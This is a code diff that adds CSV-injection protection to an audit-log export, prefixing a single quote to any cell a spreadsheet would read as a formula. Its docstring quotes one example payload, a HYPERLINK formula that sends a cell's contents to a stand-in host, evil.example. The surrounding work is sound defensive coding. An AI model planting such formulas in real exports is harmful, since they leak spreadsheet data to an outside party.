@@ -167,8 +167,32 @@ def _row_dict(row: AuditEventRow) -> dict[str, Any]:
     return data
 
 
+# A cell a spreadsheet would read as a formula (OWASP, "CSV Injection").
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _spreadsheet_safe(value: Any) -> Any:
+    """
+    A CSV cell that Excel, LibreOffice and Google Sheets show as text, never run as a formula.
+
+    An actor, reason or target comes from whoever made the change: a key named
+    `=HYPERLINK("https://evil.example/?"&A1)` would run when the complaints panel opens the
+    export. A text cell beginning `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+    leading single quote, which spreadsheets take as "this is text" (OWASP). The JSON lines
+    export keeps every value exactly as stored (and verifiable against its hash).
+    """
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def export_events(engine: Engine, organisation_id: str, fmt: str) -> Iterator[str]:
-    """The whole log as JSON lines or CSV, in sequence order, with each event's hashes."""
+    """
+    The whole log as JSON lines or CSV, in sequence order, with each event's hashes.
+
+    CSV cells that a spreadsheet would take for a formula begin with a single quote
+    (`_spreadsheet_safe`); JSON lines hold every value exactly as stored.
+    """
     if fmt == "jsonl":
         for row in _stream(engine, organisation_id):
             yield json.dumps(_row_dict(row), sort_keys=True, ensure_ascii=False) + "\n"
@@ -187,5 +211,5 @@ def export_events(engine: Engine, organisation_id: str, fmt: str) -> Iterator[st
         data["after"] = (
             json.dumps(data["after"], sort_keys=True) if data["after"] is not None else ""
         )
-        writer.writerow(data)
+        writer.writerow({name: _spreadsheet_safe(value) for name, value in data.items()})
         yield buffer.getvalue()
